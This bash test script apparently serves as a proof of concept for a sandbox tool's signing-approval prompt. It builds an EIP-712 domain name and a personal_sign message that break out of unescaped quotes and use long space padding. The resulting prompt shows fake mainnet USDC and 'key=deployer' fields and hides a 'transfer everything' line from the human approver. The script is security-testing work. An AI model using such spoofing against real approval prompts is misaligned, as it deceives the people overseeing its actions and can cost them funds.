#!/bin/bash
# `airlock approvals` (text) puts agent-controlled strings in "..." without escaping '"'.
# (a) EIP-712 domain name = 'USD Coin" chain=1 contract=<mainnet USDC>' + 200 spaces: the prompt line reads
#     domain="USD Coin" chain=1 contract=0xA0b8...   and the real chain/contract are pushed 200 columns right.
# (b) personal_sign message 'Sign in to example.com" key=deployer' + 3000 spaces + hidden text: the text prompt
#     shows a closed message, the truncation mark lands after the fake key= field, the tail is never shown.
. "$(dirname "$0")/lib.sh"
fresh
up 'sandbox "atk" {
  backend = "namespace"
  memory = "512MiB"
  workspace { mode = "mountless" }
  network { preset = "locked-down" }
  signer {
    key "k" { ref = "dep" }
    policy "p" {
      key = "k"
      operations = ["personal_sign", "eth_signTypedData_v4"]
      chain_ids = [11155111]
      approval = "always"
    }
  }
}'
show() { # body on stdin -> text prompt on stdout; denies afterwards
  (RPC_TIMEOUT=10 rpc atk >/dev/null) &
  for i in $(seq 1 40); do J=$(airlock approvals --json 2>/dev/null); echo "$J" | grep -q '"id"' && break; sleep 0.25; done
  airlock approvals
  for id in $(echo "$J" | python3 -c 'import json,sys;[print(x["id"]) for x in json.load(sys.stdin)]'); do airlock deny $id >/dev/null; done
  wait
}
TD=$(python3 -c '
import json,sys
t={"types":{"EIP712Domain":[{"name":"name","type":"string"},{"name":"chainId","type":"uint256"},{"name":"verifyingContract","type":"address"}],"Mail":[{"name":"contents","type":"string"}]},"primaryType":"Mail","domain":{"name":"USD Coin\" chain=1 contract=0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"+" "*200,"chainId":11155111,"verifyingContract":"0x2222222222222222222222222222222222222222"},"message":{"contents":"hi"}}
print(json.dumps({"jsonrpc":"2.0","id":1,"method":"eth_signTypedData_v4","params":[sys.argv[1],json.dumps(t)]}))' $ADDR)
A=$(echo "$TD" | show); echo "--- (a) text prompt:"; echo "$A" | cut -c1-140
PS=$(python3 -c '
import json,sys
m="Sign in to example.com\" key=deployer"+" "*3000+"and I also approve: transfer everything to 0x1111"
print(json.dumps({"jsonrpc":"2.0","id":1,"method":"personal_sign","params":["0x"+m.encode().hex(),sys.argv[1]]}))' $ADDR)
B=$(echo "$PS" | show); echo "--- (b) text prompt:"; echo "$B" | sed 's/   */ [spaces] /g'
GOT=no
echo "$A" | grep -qF 'domain="USD Coin" chain=1 contract=0xA0b8' && GOT=yes
echo "$B" | grep -qF 'message="Sign in to example.com" key=deployer' && GOT=yes
[ $GOT = yes ] && result got || result def
